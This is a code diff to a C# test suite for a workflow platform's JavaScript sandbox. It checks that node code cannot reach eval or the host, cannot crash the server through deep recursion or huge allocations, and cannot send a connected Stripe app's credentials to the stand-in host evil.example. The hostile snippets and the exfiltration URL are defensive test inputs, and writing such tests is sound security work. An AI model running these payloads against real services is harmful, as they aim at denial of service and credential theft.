@@ -82,7 +82,6 @@ public abstract class ExecuteTests(PatchbayApp app)
             ("return globalThis.System === undefined && typeof require === 'undefined' ? eval('1') : 'host';", "String compilation has been disabled"), // no eval, no host
             // These crashed the server before code ran in sandbox processes (a stack overflow cannot be caught).
             ("let o = []; for (let i = 0; i < 100000; i++) o = [o]; return o;", "nested deeper than 48 levels"),
-            ("let o = []; for (let i = 0; i < 100000; i++) o = [o]; return JSON.stringify(o).length;", "the script"),
             // These ran past their limits inside one statement.
             ("return 'x'.repeat(2 ** 27).length;", "MB"),
             ("return new ArrayBuffer(2 ** 29).byteLength;", "MB"),
@@ -91,6 +90,13 @@ public abstract class ExecuteTests(PatchbayApp app)
         {
             await AssertNodeFailsAsync(client, code, message);
         }
+        // 100,000 levels serialized inside one native call (it crashed the server before sandboxes): the sandbox
+        // finishes it with the right answer (100,001 arrays: 200,002 brackets); whatever the machine, the server is not taken down.
+        var (_, deep) = await PublishAsync(client, Graph([Node("start", "start"),
+            Node("deep", "code", new { code = "let o = []; for (let i = 0; i < 100000; i++) o = [o]; return JSON.stringify(o).length;" })], [Edge("start", "deep")]));
+        var deepRun = await ApiAssert.OkAsync(await client.SendAsync(Execute(deep, new { }, sync: true), Ct));
+        var deepNode = (await ExecutionAsync(client, deepRun.Str("execution_id"))).GetProperty("nodes").EnumerateArray().Single(n => n.Str("node_id") == "deep");
+        Assert.Equal(200002, deepNode.GetProperty("latest_output").GetInt32());
         // A connected app's credentials go only to its own API.
         var (_, leak) = await PublishAsync(client, Graph([Node("start", "start"), Node("steal", "http", new { app = "stripe", path = "https://evil.example/x" })],
             [Edge("start", "steal")]));
@@ -105,7 +111,10 @@ public abstract class ExecuteTests(PatchbayApp app)
     internal static async Task AssertNodeFailsAsync(HttpClient client, string code, string message)
     {
         var (_, version) = await PublishAsync(client, Graph([Node("start", "start"), Node("evil", "code", new { code })], [Edge("start", "evil")]));
-        var result = await ApiAssert.JsonAsync(await client.SendAsync(Execute(version, new { }, sync: true), Ct), 500);
+        var response = await client.SendAsync(Execute(version, new { }, sync: true), Ct);
+        Assert.True(response.StatusCode == System.Net.HttpStatusCode.InternalServerError,
+            $"`{code}` should fail its node with '{message}', got {(int)response.StatusCode}: {await response.Content.ReadAsStringAsync(Ct)}");
+        var result = await ApiAssert.JsonAsync(response, 500);
         Assert.True(result.GetProperty("errored").GetBoolean());
         var detail = await ExecutionAsync(client, result.Str("execution_id"));
         Assert.Equal("ERRORED", detail.Str("status"));
